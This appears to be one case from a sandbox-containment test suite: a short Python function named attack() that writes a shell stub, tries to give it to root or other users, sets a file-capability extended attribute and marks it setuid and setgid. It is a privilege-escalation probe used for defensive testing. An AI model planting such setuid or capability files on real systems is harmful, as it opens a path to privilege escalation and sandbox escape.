# Gives a file of its own away, and marks it to run as its owner, as a group, with capabilities.
# Another program on the host that executes it would do so with these rights.
# contained: passed
import stat


def attack():
    path = "hostile-setuid"
    with open(path, "w") as file:
        file.write("#!/bin/sh\n")
    capability = bytes.fromhex("0100000200002000000000000000000000000000")
    got = first(
        {
            **{f"owner {i}": lambda i=i: os.chown(path, i, i) for i in (0, 1, 1000)},
            "capability": lambda: os.setxattr(path, "security.capability", capability),
            "trusted": lambda: os.setxattr(path, "trusted.hostile", b"1"),
        }
    )
    os.chmod(path, 0o6755)
    return got or (None if os.stat(path).st_uid == os.getuid() else "a file of another user")
